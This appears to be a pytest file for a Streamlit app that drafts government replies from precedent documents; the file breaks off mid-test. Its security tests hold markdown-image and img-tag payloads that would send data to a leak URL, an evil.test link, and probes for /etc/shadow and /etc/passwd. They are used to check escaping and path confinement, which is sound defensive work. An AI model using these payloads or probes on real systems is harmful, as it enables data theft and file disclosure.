"""The Streamlit app driven by streamlit.testing.v1.AppTest (no browser), plus its pure helpers."""

from __future__ import annotations

import json
import shutil
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from streamlit.testing.v1 import AppTest

from rag.ingest.uploads import ingest_uploads
from rag.types import DraftRequest, DraftWarning, Passage
from tests.conftest import PETITION, ROOT, make_assistant
from tests.fake_openai import FakeOpenAI
from ui import support as U

APP = str(ROOT / "app.py")
TIMEOUT = 180
NEW_REPLY = """Julie Morgan AS/MS
Deputy Minister for Social Services

Your ref: Petition P-06-1301

12 January 2023

Dear Jack,

Thank you for your letter asking for my views on the petition to 'Fund quokka therapy rooms in every children's home'.

The Welsh Government will publish the quokka therapy framework for residential children's homes in spring 2023.

Yours sincerely,

Julie Morgan AS/MS
Deputy Minister for Social Services
"""


# ---------------------------------------------------------------------------- fixtures, helpers


@pytest.fixture
def store(tmp_path: Path, seeded_store: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The app's store: a private copy of the seeded index, named by YMATEB_STORE."""
    path = tmp_path / "app-store"
    shutil.copytree(seeded_store, path)
    monkeypatch.setenv("YMATEB_STORE", str(path))
    return path


def start(page: str | None = None) -> AppTest:
    at = AppTest.from_file(APP, default_timeout=TIMEOUT)
    at.run()
    if page:
        at.switch_page(f"views/{page}.py").run()
    assert_clean(at)
    return at


def assert_clean(at: AppTest) -> None:
    assert not at.exception, [e.value for e in at.exception]
    assert not at.error, [e.value for e in at.error]


def button(at: AppTest, label: str) -> Any:
    matches = [b for b in at.button if b.label == label]
    assert matches, f"no button {label!r} in {[b.label for b in at.button]}"
    return matches[0]


def markdown(at: AppTest) -> str:
    return "\n".join(m.value for m in at.markdown)


def headings(at: AppTest) -> list[str]:
    return [m.value.strip("*") for m in at.markdown if m.value.startswith("**") and " · " in m.value]


def table(at: AppTest, *columns: str) -> Any:
    """The last dataframe on the page that has these columns."""
    found = [d.value for d in at.dataframe if set(columns) <= set(d.value.columns)]
    assert found, f"no table with columns {columns}"
    return found[-1]


def metric(at: AppTest, label: str) -> str:
    return next(m.value for m in at.metric if m.label == label)


def draft_petition(at: AppTest, text: str = PETITION) -> AppTest:
    at.text_area(key="draft_text").set_value(text).run()
    button(at, "Draft reply").click().run()
    assert_clean(at)
    return at


# ---------------------------------------------------------------------------- start-up


def test_first_start_indexes_the_seed_corpus(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("YMATEB_STORE", str(tmp_path / "empty-store"))
    at = start("corpus")
    assert metric(at, "Documents") == "5"
    assert metric(at, "Store") == "Embedded Chroma"
    assert "000_13427d4b3c4b56d1" in set(table(at, "doc_id")["doc_id"])


def test_every_page_has_a_title(store: Path) -> None:
    at = start()
    assert at.title[0].value == "Draft a reply"
    for page, title in (("precedents", "Precedents"), ("corpus", "Corpus"), ("evaluation", "Evaluation")):
        at.switch_page(f"views/{page}.py").run()
        assert_clean(at)
        assert at.title[0].value == title


def test_a_bad_setting_is_a_message_not_a_traceback(store: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("YMATEB_BACKEND", "telepathy")
    at = AppTest.from_file(APP, default_timeout=TIMEOUT).run()
    assert not at.exception
    assert "YMATEB_BACKEND" in at.error[0].value


# ---------------------------------------------------------------------------- Draft


def test_draft_detects_the_petition_and_cites_its_precedents(store: Path) -> None:
    at = start()
    at.text_area(key="draft_text").set_value(PETITION).run()
    assert at.selectbox(key="field_kind").value == "petition"
    assert at.text_input(key="field_number").value == "P-06-1199"
    assert at.text_input(key="field_title").value.startswith("Place Cardiff Children's Services")
    assert at.selectbox(key="field_language").value == "en"
    assert at.radio(key="field_backend").options == ["Offline (no network)"]

    button(at, "Draft reply").click().run()
    assert_clean(at)
    text = at.session_state["draft_edit"]
    assert "Your ref: P-06-1199" in text and "[1]" in text
    assert 'data-cite="1" role="button" tabindex="0"' in markdown(at) and "&#91;1&#93;</span>" in markdown(at)
    pills = at.pills[0]
    assert pills.options[0].startswith("&#91;1&#93; P-06-1199")
    assert [b.label for b in at.get("download_button")] == ["Download .docx", "Download Markdown"]

    pills.set_value(1).run()
    assert_clean(at)
    cited = at.session_state["draft"].citations[0]
    shown = markdown(at)
    assert '<mark class="ym-cited">' in shown
    assert "23 September 2021" in shown and cited.author in shown


def test_a_request_no_precedent_answers_shows_what_was_searched_and_the_closest(store: Path) -> None:
    at = draft_petition(start(), "Will the Minister make a statement on badger culling in Pembrokeshire?")
    assert "No precedent found" in at.session_state["draft_edit"] and "[1]" not in at.session_state["draft_edit"]
    assert any("No earlier reply in the index addresses this request" in w.value for w in at.warning)
    info = " ".join(i.value for i in at.info)
    assert "Searched for" in info and "badger culling in Pembrokeshire" in info
    related = at.session_state["draft"].related
    assert related and len(at.expander) >= len(related)
    assert not at.pills  # nothing is cited


def test_corrected_details_and_as_of_change_the_draft(store: Path) -> None:
    at = start()
    at.text_area(key="draft_text").set_value(PETITION).run()
    at.text_input(key="field_title").set_value("Review children's services in Cardiff").run()
    at.date_input(key="field_as_of").set_value(date(2000, 1, 1)).run()
    button(at, "Draft reply").click().run()
    assert_clean(at)
    draft = at.session_state["draft"]
    assert draft.request.petition_title == "Review children's services in Cardiff"
    assert draft.request.as_of == "2000-01-01"
    assert not draft.citations
    assert any("No earlier reply" in w.value for w in at.warning)  # the no-precedent warning is shown
    assert at.info[0].value == "This draft cites no precedent."


def test_a_date_read_from_the_text_is_shown_for_checking_and_flagged_until_confirmed(store: Path) -> None:
    at = start()
    at.text_area(key="draft_text").set_value(PETITION + "\n\ndate: 2020-01-01\n").run()
    assert at.date_input(key="field_date").value == date(2020, 1, 1)
    assert any("Read from the text" in c.value and "date" in c.value for c in at.caption)
    button(at, "Draft reply").click().run()
    assert_clean(at)
    assert "letter_date" in at.session_state["draft"].request.parsed_fields
    assert any("1 January 2020 was read from the incoming text" in w.value for w in at.warning)

    at.checkbox(key="field_date_ok").check().run()
    assert any("Date checked by you" in c.value for c in at.caption)
    assert not any("Read from the text" in c.value and "date" in c.value for c in at.caption)
    button(at, "Draft reply").click().run()
    assert_clean(at)
    assert "letter_date" not in at.session_state["draft"].request.parsed_fields
    assert not any("was read from the incoming text" in w.value for w in at.warning)


def test_a_date_corrected_by_hand_counts_as_checked(store: Path) -> None:
    at = start()
    at.text_area(key="draft_text").set_value(PETITION + "\n\ndate: 2020-01-01\n").run()
    at.date_input(key="field_date").set_value(date(2020, 1, 2)).run()
    assert any("Date checked by you" in c.value for c in at.caption)
    button(at, "Draft reply").click().run()
    assert_clean(at)
    assert at.session_state["draft"].request.letter_date == "2020-01-02"
    assert not any("was read from the incoming text" in w.value for w in at.warning)


def test_edits_survive_and_the_text_is_kept_across_pages(store: Path) -> None:
    at = draft_petition(start())
    at.text_area(key="draft_edit").set_value("Dear Jack,\n\nEdited by a clerk. [1]").run()
    at.switch_page("views/corpus.py").run()
    at.switch_page("views/draft.py").run()
    assert_clean(at)
    assert at.text_area(key="draft_text").value == PETITION
    assert at.text_area(key="draft_edit").value.startswith("Dear Jack,\n\nEdited by a clerk.")


def test_an_edit_is_checked_again_and_its_warnings_shown_before_download(store: Path) -> None:
    at = draft_petition(start())
    draft = at.session_state["draft"]
    assert any("go into the downloads" in c.value for c in at.caption)
    invented = "Care Inspectorate Wales inspected Cardiff in 2022 [9]."
    first = draft.body.split("\n")[0]
    at.text_area(key="draft_edit").set_value(draft.text.replace(first, f"{first} {invented}")).run()
    assert_clean(at)
    final = at.session_state["draft_rechecked"][2]
    assert final.text.count(invented) == 1 and invented in final.body
    assert [w.code for w in final.warnings if w.sentence == invented] == ["invalid_citation"]
    shown = [w.value for w in at.warning]
    assert any("&#91;9&#93; matches none" in w and "Care Inspectorate Wales inspected Cardiff" in w for w in shown)
    assert any("Your edits were checked again" in c.value for c in at.caption)
    help_text = at.text_area(key="draft_edit").help or ""
    assert "checked again" in help_text and "the downloads list" in help_text

    at.text_area(key="draft_edit").set_value(draft.text).run()  # the edit undone: the draft's own checks
    assert not any("&#91;9&#93;" in w.value for w in at.warning)


def test_a_backend_failure_shows_a_message_and_keeps_the_text(store: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("YMATEB_LLM_BASE_URL", "http://127.0.0.1:9/v1")  # nothing listens there
    monkeypatch.setenv("YMATEB_LLM_API_KEY", "sk-test")
    monkeypatch.setenv("YMATEB_LLM_TIMEOUT", "5")
    at = start()
    at.text_area(key="draft_text").set_value(PETITION).run()
    at.radio(key="field_backend").set_value("openai").run()
    button(at, "Draft reply").click().run()
    assert not at.exception
    assert at.error, "the failure is shown"
    assert "Traceback" not in at.error[0].value
    assert at.text_area(key="draft_text").value == PETITION
    assert at.radio(key="field_backend").value == "openai"


def test_an_uploaded_request_fills_the_text(store: Path) -> None:
    at = start()
    at.file_uploader[0].set_value(("petition.txt", PETITION.encode(), "text/plain")).run()
    assert_clean(at)
    assert at.text_area(key="draft_text").value == PETITION
    assert at.text_input(key="field_number").value == "P-06-1199"


def test_an_oversized_upload_is_refused(store: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("YMATEB_MAX_UPLOAD_MB", "0.0001")
    at = start()
    at.file_uploader[0].set_value(("petition.txt", PETITION.encode() * 2, "text/plain")).run()
    assert not at.exception
    assert "upload limit" in at.error[0].value
    assert not at.text_area(key="draft_text").value


# ---------------------------------------------------------------------------- Precedents


def search(at: AppTest, query: str, **filters: Any) -> AppTest:
    at.text_input(key="prec_query").set_value(query)
    for key, value in filters.items():
        widget = at.multiselect(key="prec_" + key) if key == "kinds" else None
        if key in ("from", "to"):
            widget = at.date_input(key="prec_" + key)
        elif key == "author":
            widget = at.text_input(key="prec_author")
        widget.set_value(value)  # type: ignore[union-attr]
    button(at, "Search").click().run()
    assert_clean(at)
    return at


def test_search_groups_results_by_document_with_highlights(store: Path) -> None:
    at = search(start("precedents"), "independent review of children's services")
    found = headings(at)
    assert any(h.startswith("WQ85953 · 30 August 2022 · Written question") for h in found)
    assert any(h.startswith("P-06-1199 · 23 September 2021") for h in found)
    assert len(found) == len(set(found)), "one heading per document"
    assert '<mark class="ym-term">' in markdown(at)
    timeline = table(at, "said")
    assert list(timeline["date"]) == sorted(timeline["date"], reverse=True)
    assert "Latest line" in markdown(at)


@pytest.mark.parametrize(
    ("filters", "expect"),
    [
        ({"kinds": ["petition_response"]}, {"P-06-1199", "P-06-1161"}),
        ({"author": "Jane Dodds"}, {"001_ee2d74eb3e89c0bc"}),
        ({"from": date(2022, 7, 1), "to": date(2022, 7, 31)}, {"001_ee2d74eb3e89c0bc", "P-06-1161"}),
    ],
    ids=["kind", "author", "date-range"],
)
def test_search_filters(store: Path, filters: dict[str, Any], expect: set[str]) -> None:
    at = search(start("precedents"), "children's services", **filters)
    assert {h.split(" · ")[0] for h in headings(at)} == expect


def test_a_reversed_date_range_is_explained(store: Path) -> None:
    at = start("precedents")
    at.text_input(key="prec_query").set_value("review")
    at.date_input(key="prec_from").set_value(date(2023, 1, 1))
    at.date_input(key="prec_to").set_value(date(2020, 1, 1))
    button(at, "Search").click().run()
    assert not at.exception
    assert "after the 'To' date" in at.error[0].value


def test_open_a_document_in_full(store: Path) -> None:
    at = search(start("precedents"), "special measures Cardiff")
    at.button(key="open_000_13427d4b3c4b56d1").click().run()
    assert_clean(at)
    shown = markdown(at)
    assert "Dear Jack" in shown and '<mark class="ym-cited">' in shown
    assert '<mark class="ym-term">special' in shown.split('<mark class="ym-cited">', 1)[1]  # the query, in the passage
    button(at, "Back to the results").click().run()
    assert_clean(at)
    assert "Dear Jack" not in markdown(at) and not [b for b in at.button if b.label == "Back to the results"]
    at.run()  # closed stays closed
    assert "Dear Jack" not in markdown(at)


def test_use_a_passage_in_a_draft(store: Path) -> None:
    from ui.common import CHOSEN

    at = search(start("precedents"), "special measures Cardiff")
    use = [b for b in at.button if b.label == "Use this passage in a draft"]
    assert len(use) == len(at.session_state["prec_found"].passages)
    chunk_id = use[1].key.removeprefix("use_")
    use[1].click().run()
    assert_clean(at)
    assert at.title[0].value == "Draft a reply"
    doc_id = next(p.doc_id for p in at.session_state["prec_found"].passages if p.chunk_id == chunk_id)
    assert at.session_state[CHOSEN] == [{"doc_id": doc_id, "chunk_id": chunk_id}]


def test_use_a_whole_document_in_a_draft_from_the_viewer(store: Path) -> None:
    from ui.common import CHOSEN

    at = search(start("precedents"), "special measures Cardiff")
    at.button(key="open_000_13427d4b3c4b56d1").click().run()
    button(at, "Use this document in a draft").click().run()
    assert_clean(at)
    assert at.title[0].value == "Draft a reply"
    assert at.session_state[CHOSEN] == [{"doc_id": "000_13427d4b3c4b56d1", "chunk_id": None}]
    at.switch_page("views/precedents.py").run()
    assert "Dear Jack" not in markdown(at), "the viewer does not open again by itself"


# ---------------------------------------------------------------------------- Corpus


def test_upload_a_document_then_find_it(store: Path) -> None:
    at = start("corpus")
    assert metric(at, "Documents") == "5"
    at.file_uploader[0].set_value(
        [
            ("quokka-reply.txt", NEW_REPLY.encode(), "text/plain"),
            ("broken.docx", b"not a word file", "application/octet-stream"),
        ]
    ).run()
    button(at, "Add to the index").click().run()
    assert_clean(at)
    results = table(at, "file")
    by_file = dict(zip(results["file"], results["result"]))
    assert by_file == {"quokka-reply.txt": "added", "broken.docx": "skipped"}
    assert "docx" in " ".join(results["detail"])
    assert metric(at, "Documents") == "6"
    assert "quokka-reply" in set(table(at, "doc_id")["doc_id"])

    at.switch_page("views/precedents.py").run()
    search(at, "quokka therapy framework")
    assert headings(at)[0].startswith("P-06-1301")


def test_ingest_uploads_refuses_large_files(assistant: Any) -> None:
    results = ingest_uploads(assistant.ingest, [("big.txt", b"x" * 3000), ("ok.txt", NEW_REPLY.encode())], max_mb=0.002)
    assert [r.status for r in results] == ["refused", "added"]
    assert "upload limit" in results[0].detail
    assert [d["doc_id"] for d in assistant.list_documents()] == ["ok"]


def test_remove_a_document(store: Path) -> None:
    at = start("corpus")
    at.selectbox(key="corpus_doc").set_value("004_39feb1b05e3fab23").run()
    assert button(at, "Remove").disabled
    at.checkbox(key="corpus_remove_ok").check().run()
    button(at, "Remove").click().run()
    assert_clean(at)
    assert at.success[0].value == "Removed CYPE(5)-24-19 · Improving outcomes for children · 14 August 2019."
    assert metric(at, "Documents") == "4"
    assert "004_39feb1b05e3fab23" not in set(table(at, "doc_id")["doc_id"])


# ---------------------------------------------------------------------------- Evaluation


def fake_result(scale: float = 1.0) -> dict[str, Any]:
    case = {
        "id": "WQ85953",
        "date": "2022-08-30",
        "question": "Will the Minister explain why there is no review?",
        "draft": "We are aware of the calls for a review. [1]",
        "reference_answer": "We are aware of the calls for an inquiry.",
        "citations": [{"n": 1, "ref": "P-06-1199", "date": "2021-09-23", "author": "Julie Morgan", "quote": "q"}],
        "warnings": [],
        "rougeL_f1": 0.5 * scale,
        "semantic_similarity": 0.8,
        "key_fact_recall": 0.3,
        "citation_validity": 1.0,
        "citation_support": 1.0,
        "nearest_rougeL_f1": 0.4,
        "nearest_semantic_similarity": 0.7,
        "oracle_rougeL_f1": 0.6,
        "retrieval_rank": 1,
        "oracle_doc_id": "000",
    }
    summary = {
        "n_cases": 1,
        "backend": "offline",
        "rougeL_f1": 0.5 * scale,
        "semantic_similarity": 0.8,
        "key_fact_recall": 0.3,
        "citation_validity": 1.0,
        "citation_support": 1.0,
        "retrieval_recall_at_5": 1.0,
        "mrr": 1.0,
        "gap_closed": 0.5,
        "seconds": 1.0,
        "baselines": {
            "nearest_precedent": {"rougeL_f1": 0.4, "semantic_similarity": 0.7},
            "oracle_precedent": {"rougeL_f1": 0.6},
        },
    }
    return {"summary": summary, "cases": [case]}


def open_result(at: AppTest, path: Path) -> AppTest:
    """Pick a result file of the shared data folder from the saved runs and open it."""
    at.selectbox(key="eval_saved").set_value(f"shared data: {path.name}")
    button(at, "Open").click().run()
    assert_clean(at)
    return at


def test_open_an_eval_run_and_compare_two(store: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("YMATEB_DATA_DIR", str(tmp_path))  # the shared data folder the page may read
    (tmp_path / "a.json").write_text(json.dumps(fake_result()), encoding="utf-8")
    (tmp_path / "b.json").write_text(json.dumps(fake_result(0.5)), encoding="utf-8")
    at = open_result(start("evaluation").run(), tmp_path / "a.json")
    assert metric(at, "ROUGE-L F1") == "0.500"
    summary = table(at, "nearest precedent")
    assert list(summary.columns) == ["metric", "system", "nearest precedent", "oracle precedent"]
    assert list(summary[summary["metric"] == "Semantic similarity"].iloc[0]) == [
        "Semantic similarity",
        "0.800",
        "0.700",
        "n/a",
    ]
    assert not at.warning  # above the nearest precedent: no warning
    assert len(at.get("image")) == 2  # the report's two charts
    cases = table(at, "ROUGE-L F1")
    assert list(cases["id"]) == ["WQ85953"] and "ROUGE-L F1 (nearest precedent)" in cases.columns
    shown = markdown(at)
    assert '<ins class="ym-ins">a review. &#91;1&#93;</ins>' in shown and '<del class="ym-del">' in shown

    open_result(at, tmp_path / "b.json")
    assert at.selectbox(key="eval_view").value == "b.json"
    compare = table(at, "metric", "change")
    assert {"ROUGE-L F1", "ROUGE-L F1 (oracle precedent)"} <= set(compare["metric"])
    assert list(table(at, "question")["id"]) == ["WQ85953"]  # the case that got worse


def test_a_file_that_is_not_a_result_is_refused(store: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("YMATEB_DATA_DIR", str(tmp_path))
    (tmp_path / "bad.json").write_text('{"summary": {}}', encoding="utf-8")
    at = start("evaluation").run()
    at.selectbox(key="eval_saved").set_value("shared data: bad.json")
    button(at, "Open").click().run()
    assert not at.exception
    assert "is not an eval result" in at.error[0].value


def test_run_the_eval_suite_from_the_page(store: Path) -> None:
    at = start("evaluation")
    at.number_input(key="eval_limit").set_value(1)
    button(at, "Run evaluation").click().run()
    assert_clean(at)
    assert metric(at, "Cases") == "1"
    assert at.selectbox(key="eval_view").value.startswith("run 1 (seeds.jsonl, offline)")


OUTSIDE = "not in a folder this page may read"
SUBMIT = {"eval_cases": "Run evaluation", "eval_corpus": "Run evaluation"}


@pytest.mark.parametrize("field", list(SUBMIT), ids=["cases", "corpus"])
def test_the_evaluation_page_reads_no_path_outside_its_folders_and_says_the_same_for_all(
    store: Path, tmp_path: Path, field: str
) -> None:
    outside = tmp_path / "outside"
    shutil.copytree(ROOT / "seeds", outside / "corpus")
    shutil.copy(ROOT / "evals" / "cases" / "seeds.jsonl", outside / "cases.jsonl")
    (outside / "result.json").write_text(json.dumps(fake_result()), encoding="utf-8")
    existing = {"eval_cases": "cases.jsonl", "eval_corpus": "corpus"}[field]
    paths = [outside / existing, outside / "missing.jsonl", outside / "no" / "such" / "dir", Path("/etc/shadow")]
    if field != "eval_corpus":  # (before the fix, a corpus of /etc was indexed)
        paths += [Path("/etc"), ROOT / "evals" / ".." / "pyproject.toml"]
    at = start("evaluation")
    at.number_input(key="eval_limit").set_value(1)
    messages = []
    for path in paths:
        at.text_input(key=field).set_value(str(path))
        button(at, SUBMIT[field]).click().run()
        assert not at.exception
        messages.append([e.value for e in at.error])
    assert all(m == messages[0] for m in messages), messages  # no oracle: exists or not, the same words
    assert len(messages[0]) == 1 and OUTSIDE in messages[0][0] and str(tmp_path) not in messages[0][0]
    assert not st_runs(at)


def test_saved_runs_are_picked_from_the_runs_folders_never_typed(
    store: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    data = tmp_path / "data"
    (data / "runs").mkdir(parents=True)
    (data / "runs" / "mine.json").write_text(json.dumps(fake_result()), encoding="utf-8")
    (tmp_path / "outside.json").write_text(json.dumps(fake_result()), encoding="utf-8")
    (data / "runs" / "escape.json").symlink_to(tmp_path / "outside.json")  # a link out of the folder
    monkeypatch.setenv("YMATEB_DATA_DIR", str(data))
    at = start("evaluation").run()
    assert all(t.key != "eval_path" for t in at.text_input)  # no free path for a result file
    options = at.selectbox(key="eval_saved").options
    assert "shared data: runs/mine.json" in options
    assert not any("escape" in o or "outside" in o or o.startswith("/") for o in options)
    at.selectbox(key="eval_saved").set_value("shared data: runs/mine.json")
    button(at, "Open").click().run()
    assert_clean(at)
    assert list(st_runs(at)) == ["runs/mine.json"]


def st_runs(at: AppTest) -> dict[str, Any]:
    return at.session_state["eval_runs"] if "eval_runs" in at.session_state else {}


def test_the_evaluation_page_runs_an_uploaded_cases_file_over_uploaded_corpus_files(store: Path) -> None:
    at = start("evaluation")
    at.text_input(key="eval_cases").set_value("/etc/passwd")  # ignored: the upload is used instead
    at.text_input(key="eval_corpus").set_value("/etc")
    cases = (ROOT / "evals" / "cases" / "seeds.jsonl").read_bytes()
    at.file_uploader(key="eval_cases_upload").set_value(("my-cases.jsonl", cases, "application/jsonl"))
    seeds = sorted((ROOT / "seeds").glob("*.txt"))
    at.file_uploader(key="eval_corpus_upload").set_value([(p.name, p.read_bytes(), "text/plain") for p in seeds])
    at.number_input(key="eval_limit").set_value(1)
    button(at, "Run evaluation").click().run()
    assert_clean(at)
    assert metric(at, "Cases") == "1"
    assert at.selectbox(key="eval_view").value.startswith("run 1 (my-cases.jsonl, offline)")


def test_a_stopword_only_search_is_refused(store: Path) -> None:
    at = start("precedents")
    at.text_input(key="prec_query").set_value("what is the")
    button(at, "Search").click().run()
    assert not at.exception
    assert "only common words" in at.error[0].value and not headings(at)


# ---------------------------------------------------------------------------- untrusted text is shown, never rendered

IMAGE = "![x](http://127.0.0.1:9/leak?d=SECRET)"
TAG = '<img src="http://127.0.0.1:9/leak?d=TAG">'
LINK = "[click](http://evil.test/)"
PAYLOADS = (IMAGE, TAG, LINK)
HOSTILE = {
    "id": "quokka_<b>",
    "kind": "petition_response",
    "date": "2023-06-01",
    "ref": f"P-06-1302 {IMAGE}",
    "title": f"Quokka rooms {TAG}",
    "asked_of": f"Deputy Minister {LINK}",
    "body": f"The Welsh Government funds quokka therapy rooms in every children's home {IMAGE} {TAG} {LINK}. "
    "Quokka therapy rooms in children's homes are inspected by Care Inspectorate Wales every year.",
}


def with_hostile_precedent(store: Path, embedder: Any, tmp_path: Path) -> None:
    records = tmp_path / "hostile.jsonl"
    records.write_text(json.dumps(HOSTILE) + "\n", encoding="utf-8")
    assert make_assistant(store, embedder).ingest([records]).written == 1


def rendered(at: AppTest) -> str:
    """Every piece of text the page hands to Streamlit's Markdown renderer."""
    parts = [m.value for m in at.markdown] + [m.value for m in at.caption] + [h.value for h in at.subheader]
    parts += [a.value for kind in (at.info, at.warning, at.success, at.error) for a in kind]
    parts += [o for p in at.pills for o in p.options] + [s.label for s in at.status] + [e.label for e in at.expander]
    return "\n".join(str(p) for p in parts)


def assert_inert(text: str) -> None:
    for payload in PAYLOADS:
        assert payload not in text, payload
    for syntax in ("![", "<img", "](http", "http://"):
        assert syntax not in text, syntax


def test_precedent_metadata_and_text_are_escaped_on_the_precedents_page(
    store: Path, embedder: Any, tmp_path: Path
) -> None:
    with_hostile_precedent(store, embedder, tmp_path)
    at = search(start("precedents"), "quokka therapy rooms in children's homes")
    assert any("P-06-1302" in h for h in headings(at)), headings(at)
    at.button(key="open_quokka_<b>").click().run()
    assert_clean(at)
    shown = rendered(at)
    assert "Latest line" in shown and "Quokka rooms" in shown
    assert_inert(shown)
    assert "!&#91;x&#93;(http\u2060://127.0.0.1:9/leak?d=SECRET)" in shown  # shown as text, not loaded


def test_the_streamed_answer_and_citations_are_escaped_on_the_draft_page(
    store: Path, embedder: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with_hostile_precedent(store, embedder, tmp_path)
    llm = FakeOpenAI().start()
    try:
        monkeypatch.setenv("YMATEB_LLM_BASE_URL", llm.url)
        monkeypatch.setenv("YMATEB_LLM_API_KEY", "sk-test")
        llm.reply("Quokka therapy rooms are funded ", IMAGE, " ", TAG, " ", LINK, " [1].")
        at = start()
        at.radio(key="field_backend").set_value("openai").run()
        draft_petition(at, "Petition P-06-1400: Fund quokka therapy rooms in every children's home")
        assert llm.requests, "the fake endpoint was asked"
        cited = at.pills[0]
        assert any("P-06-1302" in o for o in cited.options)
        cited.set_value(1).run()
        assert_clean(at)
        shown = rendered(at)
        assert "Quokka therapy rooms are funded" in shown
        assert_inert(shown)
    finally:
        llm.stop()


def test_the_stream_is_rendered_escaped() -> None:
    assert_inert(U.stream_markdown(["Funded ", IMAGE, " ", TAG, " ", LINK]))


def test_removed_message_escapes_the_document_id(store: Path, embedder: Any, tmp_path: Path) -> None:
    with_hostile_precedent(store, embedder, tmp_path)
    at = start("corpus")
    at.selectbox(key="corpus_doc").set_value("quokka_<b>").run()
    at.checkbox(key="corpus_remove_ok").check().run()
    button(at, "Remove").click().run()
    assert_clean(at)
    removed = at.success[0].value  # its reference, title and date, each escaped
    assert removed.startswith("Removed P-06-1302 !&#91;x&#93;(") and "&#60;img" in removed and "<img" not in removed


# ---------------------------------------------------------------------------- ui.support


def passage(doc_id: str, text: str, score: float, date_: str | None, start: int = 0) -> Passage:
    meta = {"doc_id": doc_id, "ref": doc_id.upper(), "date": date_, "kind": "petition_response", "author": "A"}
    return Passage(doc_id, f"{doc_id}:{start}", text, start, start + len(text), score, meta)


@pytest.mark.parametrize(
    ("text", "span", "context", "expect"),
    [
        ("abc <b>def</b> ghi", (4, 14), None, 'abc <mark class="ym-cited">&#60;b&#62;def&#60;/b&#62;</mark> ghi'),
        ("one\ntwo $x$", (4, 7), None, 'one<br><mark class="ym-cited">two</mark> &#36;x&#36;'),
        ("aaaa bbbb cccc dddd eeee", (10, 14), 5, '…bbbb <mark class="ym-cited">cccc</mark> dddd…'),
    ],
    ids=["escapes-html", "newlines-and-dollars", "context-window"],
)
def test_highlight_span(text: str, span: tuple[int, int], context: int | None, expect: str) -> None:
    assert U.highlight_span(text, *span, context=context) == expect


def test_highlight_terms_marks_query_words_only() -> None:
    out = U.highlight_terms("The review of services and the reviews.", "a review of the services")
    assert out.count('<mark class="ym-term">') == 3
    assert '<mark class="ym-term">The' not in out


def test_group_by_document_and_timeline() -> None:
    found = [
        passage("b", "new line", 0.9, "2022-01-01"),
        passage("a", "old line", 0.5, "2020-01-01"),
        passage("b", "more", 0.4, "2022-01-01", 50),
        passage("c", "undated", 0.3, None),
    ]
    groups = U.group_by_document(found)
    assert [g.doc_id for g in groups] == ["b", "a", "c"]
    assert [len(g.passages) for g in groups] == [2, 1, 1]
    assert groups[0].heading() == "B · 1 January 2022 · Petition response · A"
    rows = U.timeline_rows(found)
    assert [r["doc_id"] for r in rows] == ["a", "b", "c"]
    assert rows[1]["said"] == "new line"
    assert [r["line"] for r in rows[:2]] == ["earlier line", "latest line"]
    rows = U.timeline_rows(found, replaced={"a": found[0]})
    assert rows[0]["line"] == "superseded by B (1 January 2022)" and rows[1]["line"] == "latest line"


def test_the_timeline_quotes_the_answer_and_letters_received_are_no_line() -> None:
    question = "To ask the Minister about teachers? "
    answer = Passage(
        "q",
        "q:0",
        question + "We are recruiting teachers.",
        0,
        60,
        0.9,
        {"kind": "written_question", "date": "2024-01-01", "ref": "WQ1", "answer_start": len(question)},
    )
    letter = Passage(
        "l",
        "l:0",
        "Dear Minister, please act.",
        0,
        26,
        0.8,
        {"kind": "incoming_letter", "date": "2024-02-01", "ref": "L1"},
    )
    rows = U.timeline_rows([answer, letter])
    assert rows[0]["said"] == "We are recruiting teachers." and rows[0]["line"] == "latest line"
    assert rows[1]["line"] == "letter received"


def test_word_diff() -> None:
    out = U.word_diff_html("we will review it", "we will not review it")
    assert out == 'we will <ins class="ym-ins">not</ins> review it'


def test_draft_blocks_put_warnings_beside_their_sentence() -> None:
    text = "Dear Jack,\n\nFirst claim. [1] Second claim.\n\nYours sincerely,"
    warnings = [DraftWarning("uncited", "No source.", "Second claim."), DraftWarning("welsh", "Reply in Welsh.")]
    blocks, general = U.draft_blocks(text, warnings)
    assert [b.text for b in blocks] == ["Dear Jack,", "First claim. [1] Second claim.", "Yours sincerely,"]
    assert [w.code for w in blocks[1].warnings] == ["uncited"] and [w.code for w in general] == ["welsh"]
    assert U.paragraph_html(blocks[1]) == (
        'First claim. <span class="ym-cite" data-cite="1" role="button" tabindex="0" title="Show source 1 in '
        'the Sources panel">&#91;1&#93;</span> <mark class="ym-warned">Second claim.</mark>'
    )


@pytest.mark.parametrize(
    ("fields", "expect"),
    [
        (
            {"kind": "petition", "number": "P-06-1", "title": " T ", "member": "", "language": "en"},
            {"kind": "petition", "petition_number": "P-06-1", "petition_title": "T", "language": "en"},
        ),
        (
            {"kind": "written_question", "number": "WQ1", "title": "T", "member": "Jane Dodds MS", "language": "cy"},
            {"kind": "written_question", "wq_number": "WQ1", "member": "Jane Dodds MS", "language": "cy"},
        ),
        (
            {"kind": "letter", "number": "", "title": "", "member": "A Person", "language": "en"},
            {"kind": "letter", "member": "A Person", "sender": "A Person", "language": "en"},
        ),
        (
            {"kind": "letter", "date": date(2020, 1, 1), "parsed_date": "2020-01-01", "date_ok": False},
            {"kind": "letter"},
        ),
        (
            {"kind": "letter", "date": date(2020, 1, 1), "parsed_date": "2020-01-01", "date_ok": True},
            {"kind": "letter", "letter_date": "2020-01-01"},
        ),
        (
            {"kind": "letter", "date": date(2024, 5, 1), "parsed_date": "2020-01-01", "date_ok": False},
            {"kind": "letter", "letter_date": "2024-05-01"},
        ),
    ],
    ids=["petition", "written-question", "letter", "date-unchecked", "date-checked", "date-corrected"],
)
def test_request_overrides(fields: dict[str, Any], expect: dict[str, str]) -> None:
    assert U.request_overrides(fields) == expect


def test_request_fields_round_trip() -> None:
    req = DraftRequest(text="x", kind="written_question", wq_number="WQ85953", member="Jane Dodds MS")
    assert U.request_fields(req) == {
        "kind": "written_question",
        "number": "WQ85953",
        "title": "",
        "member": "Jane Dodds MS",
        "language": "en",
        "date": "",
